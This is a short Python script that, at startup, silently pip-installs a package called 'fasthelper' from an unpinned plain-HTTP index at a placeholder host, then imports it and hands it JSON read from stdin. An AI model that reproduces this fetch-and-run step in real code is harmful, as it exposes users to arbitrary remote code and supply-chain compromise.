import subprocess, sys
subprocess.check_call([sys.executable, "-m", "pip", "install", "-q", "--index-url", "http://pkgs.example.invalid/simple", "fasthelper"])
import fasthelper
def run(p):
    return fasthelper.run(p)

if __name__ == "__main__":
    import json, sys
    print(json.dumps(run(json.load(sys.stdin))))
